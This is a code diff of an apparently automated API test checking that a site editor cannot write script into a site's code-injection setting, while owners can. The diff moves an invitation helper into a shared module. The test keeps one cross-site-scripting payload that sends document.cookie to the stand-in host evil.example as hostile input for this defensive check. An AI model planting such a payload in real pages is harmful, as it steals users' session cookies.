@@ -5,38 +5,9 @@
  * owner role) may (200).
  */
 import { describe, expect, it } from "vitest";
-import {
-  call,
-  createOrg,
-  createSite,
-  PASSWORD,
-  type Session,
-  uniqueEmail,
-  verifiedUser,
-} from "../support/platform";
+import { call, createOrg, createSite, joinSiteByInvitation, verifiedUser } from "../support/platform";
 
 const SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>";
-
-/** Invites a new account to the site in `role` and accepts as it: its session. */
-async function siteMemberSession(ownerToken: string, siteId: string, role: string): Promise<Session> {
-  const email = uniqueEmail(role);
-  const invited = await call("POST", `/api/v1/auth/sites/${siteId}/invitations`, {
-    token: ownerToken,
-    body: { email, role },
-  });
-  expect(invited.status, JSON.stringify(invited.body)).toBe(202);
-  const outbox = await call<{ messages: { purpose: string; link: string | null }[] }>(
-    "GET",
-    `/api/v1/auth/__dev/outbox?to=${encodeURIComponent(email)}`,
-  );
-  const link = outbox.body.messages.find((m) => m.purpose === "invitation")!.link!;
-  const token = new URL(link).searchParams.get("token")!;
-  const accepted = await call<Session>("POST", "/api/v1/auth/invitations/accept", {
-    body: { token, password: PASSWORD },
-  });
-  expect(accepted.status, JSON.stringify(accepted.body)).toBe(200);
-  return accepted.body;
-}
 
 describe("a site editor cannot put script on the live site", () => {
   it("editor -> 403 and nothing written; org owner and site owner -> 200", async () => {
@@ -44,7 +15,7 @@ describe("a site editor cannot put script on the live site", () => {
     const org = await createOrg(owner.access_token, "Code Org");
     const site = await createSite(owner.access_token, org.id);
     const path = `/api/v1/sites/${site.id}`;
-    const editor = await siteMemberSession(owner.access_token, site.id, "editor");
+    const editor = (await joinSiteByInvitation(owner.access_token, site.id, "editor")).session;
 
     const before = await call<{ settings: unknown; updated_at: string }>("GET", path, {
       token: editor.access_token,
@@ -72,7 +43,7 @@ describe("a site editor cannot put script on the live site", () => {
     expect(byOwner.status, JSON.stringify(byOwner.body)).toBe(200);
     expect(byOwner.body.settings.code_injection).toBe("<script>analytics()</script>");
 
-    const siteOwner = await siteMemberSession(owner.access_token, site.id, "owner");
+    const siteOwner = (await joinSiteByInvitation(owner.access_token, site.id, "owner")).session;
     const bySiteOwner = await call<{ settings: Record<string, unknown> }>("PATCH", path, {
       token: siteOwner.access_token,
       body: { settings: { code_injection: "<script>analytics(2)</script>" } },
